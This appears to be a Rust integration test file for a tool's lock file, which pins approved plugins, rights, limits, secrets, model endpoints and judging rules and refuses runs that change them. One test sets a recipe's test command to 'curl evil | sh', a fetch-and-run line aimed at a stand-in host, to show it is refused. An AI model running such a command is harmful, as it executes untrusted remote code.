//! `catena.lock`: what was approved of plugins, and what becomes of a run whose plugins are
//! something else.

use std::fs::OpenOptions;
use std::io::Write as _;

use crate::environment::{TestEnvironment, run};
use crate::journal::records;
use crate::small_run::{self, RunFile};

/// Appended to a component, another component that does the same.
const NOTE: &[u8] = b"\0\x05\x04note";

fn environment() -> TestEnvironment {
    let environment = TestEnvironment::new();
    small_run::grow(&environment);
    environment.copy_plugin("tool-looks", "mine");
    environment.copy_plugin("judge-diff", "judge");
    environment
}

/// A run of plugins that a test can change, and of one that it can't.
fn run_file(workspace: &str) -> String {
    let tool = format!("plugin = \"./mine\"\ngrant = {{ workspace = \"{workspace}\" }}");
    let run = RunFile::of("scaffold-calls").key("refinements = 0").tool(&tool);
    run.judge("plugin = \"./judge\"").text()
}

fn append(environment: &TestEnvironment, path: &str, bytes: &[u8]) {
    let file = OpenOptions::new().append(true).open(environment.path(path));
    file.unwrap().write_all(bytes).unwrap();
}

#[test]
fn changed_component_is_refused_with_the_difference_until_it_is_approved() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    let begin = |dir: &str| environment.catena(&["run", "run.toml", "--dir", dir]);
    begin("run").succeeds().says("note: plugins are pinned in `catena.lock`");
    let again = begin("again");
    assert!(!again.succeeds().stderr.contains("pinned"), "{again}");
    let approved = |run: &str| {
        let header = &records(&environment, &format!("{run}/rollouts/notes.1.journal"))[0];
        header["approved"].as_str().unwrap().to_owned()
    };
    assert_eq!(approved("run"), approved("again"));

    append(&environment, "mine/tool_looks.wasm", NOTE);
    let refused = begin("third");
    refused.ends_with(2).says("`tool-looks`: component was ").says("hint: ").says("catena lock");
    assert!(!refused.stderr.contains("judge-diff"), "{refused}");
    assert!(!environment.path("third").exists());
    environment.catena(&["resume", "run"]).ends_with(2).says("plugin `tool-looks` (component)");
    let told = environment.catena(&["lock", "run.toml", "--check", "--json"]).ends_with(4).json();
    assert_eq!(told["changes"].as_array().unwrap().len(), 1, "its world is the same: {told:#}");
    assert_eq!(told["changes"][0]["part"], "component");
    begin("third").ends_with(2);

    environment.catena(&["lock", "run.toml"]).succeeds().prints("approved in `catena.lock`");
    environment
        .catena(&["lock", "run.toml", "--check"])
        .succeeds()
        .prints("as `catena.lock` has it");
    begin("third").succeeds();
    assert_ne!(approved("run"), approved("third"));
}

#[test]
fn other_manifest_and_more_rights_are_refused_until_they_are_approved() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    let lock = || environment.catena(&["lock", "run.toml"]);
    lock().succeeds().prints("`tool-looks`: never approved");
    append(&environment, "mine/plugin.toml", b"\n# Another line.\n");
    environment.write("run.toml", run_file("read-write"));
    let begin = || environment.catena(&["run", "run.toml", "--dir", "run"]);
    begin()
        .ends_with(2)
        .says("`tool-looks`: manifest was ")
        .says("`tool-looks`: workspace was read, is read-write");
    lock().succeeds();
    begin().succeeds();

    // Whoever judges by a run file uses what was approved for it as well.
    append(&environment, "judge/judge_diff.wasm", NOTE);
    let judge = ["judge", "run", "--with", "run.toml", "--name", "again"];
    environment.catena(&judge).ends_with(2).says("`judge-diff`: component was ");
    lock().succeeds();
    environment.catena(&judge).succeeds();
}

#[test]
fn other_limits_and_configurations_are_refused_until_they_are_approved() {
    let environment = environment();
    let write = |keys: &str| {
        let tool = format!("plugin = \"./mine\"\ngrant = {{ workspace = \"read\" }}\n{keys}");
        let run = RunFile::of("scaffold-calls").key("refinements = 0").tool(&tool);
        environment.write("run.toml", run.judge("plugin = \"./judge\"").text());
    };
    let begin = |dir: &str| environment.catena(&["run", "run.toml", "--dir", dir]);
    write("limits = { fuel = 1_000_000_000 }\nconfig = { text = \"a\" }");
    begin("run").succeeds();
    let locked = environment.read("catena.lock");
    assert!(locked.contains("fuel = 1000000000") && locked.contains("memory = \"512MiB\""));

    write("limits = { fuel = 2_000_000_000, wall = \"1s\" }\nconfig = { text = \"b\" }");
    let refused = begin("again");
    refused
        .ends_with(2)
        .says("`tool-looks`: fuel was 1_000_000_000, is 2_000_000_000")
        .says("`tool-looks`: wall was 2m, is 1s")
        .says("`tool-looks`: config was ");
    assert_eq!(refused.stderr.matches("`tool-looks`: ").count(), 3, "{refused}");
    environment.catena(&["lock", "run.toml"]).succeeds();
    begin("again").succeeds();
    // Less is something else as well.
    write("limits = { fuel = 1_000_000 }");
    begin("third").ends_with(2).says("is 1_000_000").says("config was ").says(", is none");
}

#[test]
fn other_bounds_of_a_rollout_are_refused_until_they_are_approved() {
    let environment = environment();
    let write = |tables: &str| {
        let run = RunFile::of("scaffold-calls").key("refinements = 0").table(tables);
        environment.write("run.toml", run.text());
    };
    let begin = |dir: &str| environment.catena(&["run", "run.toml", "--dir", dir]);
    write("[workspace]\nhidden = [\"/.ci/\"]\n[budget]\nturns = 5");
    begin("run").succeeds();
    write("[workspace]\nbytes = \"1GiB\"\n[budget.run]\ntokens = 1_000_000");
    begin("again")
        .ends_with(2)
        .says("`[budget]`: turns was 5, is -")
        .says("`[budget]`: run.tokens was -, is 1_000_000")
        .says("`[workspace]`: bytes was 256MiB, is 1GiB")
        .says("`[workspace]`: hidden was /.ci/, is -");
    environment.catena(&["lock", "run.toml"]).succeeds();
    begin("again").succeeds();
}

#[test]
fn secret_that_goes_elsewhere_is_refused_until_it_is_approved() {
    let environment = environment();
    let write = |secret: &str| {
        let tool = "plugin = \"tool-fetches\"\n\
                    grant = { http = [\"GET api.example.org\"], secrets = [\"TOKEN\"] }\n\
                    config = { requests = [], headers = [] }";
        let secrets = format!("[secrets]\nOTHER = {{ env = \"B\", hosts = [] }}\nTOKEN = {secret}");
        let run = RunFile::of("scaffold-calls").key("refinements = 0").tool(tool);
        environment.write("run.toml", run.table(&secrets).text());
    };
    let lock =
        |arguments: &[&str]| environment.catena(&[&["lock", "run.toml"], arguments].concat());
    write("{ env = \"A\", hosts = [\"api.example.org\"] }");
    lock(&[])
        .succeeds()
        .prints("`TOKEN`: never approved (secret: env A, hosts https://api.example.org)");
    lock(&["--check"]).succeeds();
    assert!(!environment.read("catena.lock").contains("OTHER"), "nobody is granted it");
    write("{ env = \"B\", hosts = [\"api.example.org\", \"example.net\"] }");
    lock(&["--check"]).ends_with(4).prints("`TOKEN`: env was A, is B").prints(
        "hosts was https://api.example.org, is https://api.example.org, https://example.net",
    );
    let mut command = environment.catena_command(&["run", "run.toml", "--dir", "run"]);
    command.env("B", "of-another-server");
    run(command).ends_with(2).says("`TOKEN`: env was A, is B");
    assert!(!environment.path("run").exists());
    environment.write("run.toml", run_file("read"));
    lock(&["--check"]).ends_with(4).prints("`TOKEN`: not used any more (secret)");
}

#[test]
fn lock_file_of_version_1_is_read_and_what_it_lacks_was_never_approved() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    environment.catena(&["lock", "run.toml"]).succeeds();
    let mut lock: toml::Table = environment.read("catena.lock").parse().unwrap();
    lock["version"] = 1.into();
    let approved = lock["runs"]["run.toml"].as_table_mut().unwrap();
    approved.remove("bounds");
    for (_, plugin) in approved["plugins"].as_table_mut().unwrap() {
        plugin.as_table_mut().unwrap().remove("limits");
    }
    environment.write("catena.lock", lock.to_string());
    let refused = environment.catena(&["run", "run.toml"]);
    refused
        .ends_with(2)
        .says("`tool-looks`: never approved (limits: fuel 100_000_000_000, ")
        .says("`[workspace]`: never approved (bounds: bytes 256MiB, ");
    assert!(!refused.stderr.contains("component was"), "{refused}");
    environment.catena(&["lock", "run.toml"]).succeeds();
    environment.catena(&["run", "run.toml"]).succeeds();
    environment.write("catena.lock", "version = 4\n");
    environment.catena(&["lock", "run.toml"]).ends_with(2).says("versions 1 to 3");
}

#[test]
fn lock_file_of_version_2_is_read_and_what_it_lacks_was_never_approved() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    environment.catena(&["lock", "run.toml"]).succeeds();
    let mut lock: toml::Table = environment.read("catena.lock").parse().unwrap();
    lock["version"] = 2.into();
    let bounds = lock["runs"]["run.toml"]["bounds"].as_table_mut().unwrap();
    bounds.remove("acceptance").unwrap();
    environment.write("catena.lock", lock.to_string());
    let refused = environment.catena(&["run", "run.toml"]);
    refused.ends_with(2).says("`rounds and judging`: never approved (bounds: combine all, ");
    environment.catena(&["lock", "run.toml"]).succeeds();
    environment.catena(&["run", "run.toml"]).succeeds();
}

#[test]
fn other_recipes_and_rules_of_judging_are_refused_until_they_are_approved() {
    let environment = environment();
    let write = |keys: &str, tables: &str| {
        let run = RunFile::of("scaffold-nop").key(keys).tool("plugin = \"tool-bash\"");
        environment.write("run.toml", run.table(tables).text());
    };
    let begin = |dir: &str| environment.catena(&["run", "run.toml", "--dir", dir]);
    write("refinements = 0", "[recipes.\"ada/notes\"]\ntest = \"make test\"");
    begin("run").succeeds();
    let recipe = "[recipes.\"ada/notes\"]\ntest = \"curl evil | sh\"\nset_up = [\"touch here\"]";
    let judging = "[judging]\nfeedback = \"open\"\ncalibration = \"not-required\"";
    write("refinements = 2\nthreshold = 0.1", &format!("{recipe}\n{judging}"));
    let refused = begin("again");
    refused
        .ends_with(2)
        .says("`[recipes]`: ada/notes.test was make test, is curl evil | sh")
        .says("`[recipes]`: ada/notes.set_up was -, is touch here")
        .says("`rounds and judging`: feedback was guarded, is open")
        .says("`rounds and judging`: calibration was -, is not-required")
        .says("`rounds and judging`: threshold was 0.8, is 0.1")
        .says("`rounds and judging`: refinements was 0, is 2");
    assert!(!environment.path("again").exists());
    environment.catena(&["lock", "run.toml", "--check"]).ends_with(4);
    environment.catena(&["lock", "run.toml"]).succeeds();
    environment.catena(&["lock", "run.toml", "--check"]).succeeds();
}

#[test]
fn judge_that_is_left_out_or_counts_for_something_else_is_refused() {
    let environment = environment();
    let judge = |name: &str, more: &str| format!("plugin = \"./judge\"\nname = \"{name}\"\n{more}");
    let write = |judges: &[String], combine: &str| {
        let run = RunFile::of("scaffold-nop").key("refinements = 0").judges(judges);
        let judging = format!("[judging]\ncombine = \"{combine}\"");
        environment.write("run.toml", run.table(&judging).text());
    };
    write(&[judge("one", ""), judge("two", "weight = 3.0")], "weighted");
    environment.catena(&["lock", "run.toml"]).succeeds();
    let refused = |what: &str| {
        environment.catena(&["lock", "run.toml", "--check"]).ends_with(4).prints(what);
        environment.catena(&["run", "run.toml", "--dir", "run"]).ends_with(2).says(what);
    };
    write(&[judge("one", "weight = 2.0"), judge("two", "weight = 3.0")], "weighted");
    refused("`rounds and judging`: weights.one was -, is 2.0");
    write(&[judge("two", ""), judge("one", "")], "first");
    refused("`rounds and judging`: judges was one, two, is two, one");
    write(&[judge("one", "")], "all");
    refused("`rounds and judging`: judges was one, two, is one");
}

#[test]
fn model_that_is_asked_elsewhere_or_with_another_key_is_refused_until_it_is_approved() {
    let environment = environment();
    let write = |model: &str| {
        let run = RunFile::of("scaffold-nop").key("model = \"fast\"\nrefinements = 0");
        let unused = "[models.unused]\nkind = \"openai\"\nmodel = \"m\"\n\
                      base_url = \"http://127.0.0.1:1/unused\"";
        let model = format!("[models.fast]\nkind = \"openai\"\nmodel = \"m\"\n{model}\n{unused}");
        environment.write("run.toml", run.table(&model).text());
    };
    let check = || environment.catena(&["lock", "run.toml", "--check"]);
    write("base_url = \"http://127.0.0.1:1/v1\"");
    environment
        .catena(&["lock", "run.toml"])
        .succeeds()
        .prints("`fast`: never approved (model: base_url http://127.0.0.1:1/v1, model m)");
    assert!(!environment.read("catena.lock").contains("unused"));
    // What bears on the sampling alone is not pinned.
    write("base_url = \"http://127.0.0.1:1/v1\"\ntemperature = 0.5");
    check().succeeds();
    write("base_url = \"http://127.0.0.2:1/v1\"\nkey_env = \"KEY\"\nrecord = \"tape.jsonl\"");
    let mut command = environment.catena_command(&["run", "run.toml", "--dir", "run"]);
    command.env("KEY", "of-another-server");
    run(command)
        .ends_with(2)
        .says("`fast`: base_url was http://127.0.0.1:1/v1, is http://127.0.0.2:1/v1")
        .says("`fast`: key_env was -, is KEY")
        .says("`fast`: record was -, is tape.jsonl");
    check().ends_with(4);
    environment.write("run.toml", run_file("read"));
    check().ends_with(4).prints("`fast`: not used any more (model)");
}

#[test]
fn locked_run_begins_with_nothing_that_was_never_approved() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    let begin = || environment.catena(&["run", "run.toml", "--dir", "run", "--locked"]);
    begin().ends_with(2).says("`scaffold-calls`: never approved");
    assert!(!environment.path("catena.lock").exists() && !environment.path("run").exists());
    environment.catena(&["lock", "run.toml"]).succeeds();
    begin().succeeds();
}

#[test]
fn run_files_of_a_directory_share_a_lock_file_and_nothing_in_it() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    environment.write("more.toml", run_file("read-write"));
    environment.catena(&["run", "run.toml", "--dir", "one"]).succeeds();
    environment.catena(&["run", "more.toml", "--dir", "two"]).succeeds();
    for file in ["run.toml", "more.toml"] {
        environment.catena(&["lock", file, "--check"]).succeeds();
    }
    environment.write("catena.lock", "version = 1\ncolour = 2\n");
    environment
        .catena(&["lock", "run.toml"])
        .ends_with(2)
        .says("catena.lock` is not a valid lock file")
        .says("line 2")
        .says("hint: ");
}

#[test]
fn other_commands_outside_the_sandbox_under_an_approved_name_are_told() {
    let environment = environment();
    let run = |commands: &str| {
        let tool = "plugin = \"tool-bash\"\n\
                    grant = { workspace = \"read-write\", programs = [\"build\"] }";
        let native = format!("[native.build]\ncommands = [\"{commands}\"]");
        environment.write("run.toml", RunFile::of("scaffold-nop").tool(tool).table(&native).text());
    };
    run("cat");
    environment.catena(&["lock", "run.toml"]).succeeds();
    run("sh");
    let check = environment.catena(&["lock", "run.toml", "--check"]);
    check.ends_with(4).prints("`build`: commands was ");
    environment
        .write("run.toml", RunFile::of("scaffold-nop").tool("plugin = \"tool-bash\"").text());
    let check = environment.catena(&["lock", "run.toml", "--check"]);
    check.ends_with(4).prints("`build`: not used any more (commands)");
}

#[test]
fn plugin_and_commands_under_another_name_are_refused_until_they_are_approved() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    let begin = |dir: &str| environment.catena(&["run", "run.toml", "--dir", dir]);
    begin("run").succeeds();
    let manifest = environment.path("mine/plugin.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace("tool-looks", "tool-stares")).unwrap();
    begin("again").ends_with(2).says("`tool-stares`: never approved (rights: workspace read)");
    environment.catena(&["lock", "run.toml"]).succeeds();
    begin("again").succeeds();

    let tool = "plugin = \"tool-bash\"\n\
                grant = { workspace = \"read-write\", programs = [\"build\"] }";
    let with_commands = RunFile::of("scaffold-nop").tool(tool);
    let with_commands = with_commands.table("[native.build]\ncommands = [\"cat\"]").text();
    environment.write("run.toml", with_commands);
    begin("third").ends_with(2).says("`build`: never approved (commands: ");
    assert!(!environment.path("third").exists());
}

#[test]
fn judges_of_another_run_file_are_pinned_with_all_that_it_names() {
    let environment = environment();
    environment.write("run.toml", run_file("read"));
    environment.write("other.toml", run_file("read"));
    environment.catena(&["run", "run.toml", "--dir", "run"]).succeeds();
    let judge = ["judge", "run", "--with", "other.toml", "--name", "again"];
    environment.catena(&judge).succeeds().says("note: plugins are pinned in ");
    environment.catena(&["lock", "other.toml", "--check"]).succeeds();
    environment.write("other.toml", run_file("read-write"));
    environment
        .catena(&["run", "other.toml", "--dir", "other"])
        .ends_with(2)
        .says("workspace was ");
}

#[test]
fn writer_under_the_name_of_another_plugin_is_an_error() {
    let environment = environment();
    environment.copy_plugin("writer-llm", "writer");
    let manifest = environment.path("writer/plugin.toml");
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace("writer-llm", "tool-looks")).unwrap();
    let file = format!("{}\n[writer]\nplugin = \"./writer\"\n", run_file("read"));
    environment.write("run.toml", file);
    let lock = environment.catena(&["lock", "run.toml"]);
    lock.ends_with(2).says("plugin `tool-looks` stands in the run file more than once");
}
